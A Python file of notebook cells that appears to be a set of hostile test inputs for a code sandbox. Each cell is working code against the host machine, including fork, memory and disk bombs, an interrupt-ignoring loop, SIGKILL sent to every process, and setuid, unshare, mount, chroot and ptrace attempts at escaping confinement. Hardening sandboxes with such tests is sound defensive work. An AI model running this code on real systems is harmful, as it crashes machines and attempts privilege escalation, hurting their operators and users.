# Goes for: the machine.

# %% fork bomb
import os

while True:
    try:
        os.fork()
    except OSError:
        break

# %% thread bomb
import threading
import time

for _ in range(5000):
    try:
        threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
    except RuntimeError:
        break

# %% memory bomb
hoard = []
while True:
    hoard.append(bytearray(100_000_000))

# %% disk bomb
import os

with open("/tmp/big", "wb") as file:
    while True:
        file.write(os.urandom(1_000_000))

# %% loop without end
while True:
    pass

# %% loop that ignores interrupts
import signal

signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    try:
        while True:
            pass
    except BaseException:
        pass

# %% signals to everybody
import os
import signal

for process in (-1, 1, os.getppid(), *range(2, 400)):
    if process != os.getpid():
        try:
            os.kill(process, signal.SIGKILL)
        except OSError:
            pass

# %% flood of output
for _ in range(3000):
    print("x" * 20_000)

# %% recursion until it crashes
import sys

sys.setrecursionlimit(10**9)


def down(n):
    return down(n + 1) + 1


down(0)

# %% crash in C
import ctypes

ctypes.string_at(0)

# %% becomes root, mounts, leaves
import ctypes
import os

libc = ctypes.CDLL(None)
print(libc.setuid(0), libc.unshare(0x10000000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None), libc.umount2(b"/proc", 2))
print(libc.chroot(b"/"), libc.ptrace(16, os.getppid(), 0, 0))

# %% processes that fill the memory together
import os
import time

for _ in range(29):
    if os.fork() == 0:
        block = b"x" * 300_000_000
        time.sleep(30)
time.sleep(30)

# %% memory that belongs to no process
import ctypes
import os

libc = ctypes.CDLL(None)
for _ in range(1000):
    libc.shmget(0, 60_000_000, 0o1666)
for _ in range(200):
    os.posix_fallocate(os.memfd_create("x"), 0, 60_000_000)

# %% namespaces of its own, with a file system of any size
import ctypes

libc = ctypes.CDLL(None)
print(libc.unshare(0x10020000), libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=50%"))
with open("/tmp/big", "wb") as file:
    for _ in range(400):
        file.write(bytes(1_000_000))

# %% text that takes gigabytes to parse
compile("x = [" + "1," * 20_000_000 + "]", "<text>", "exec")
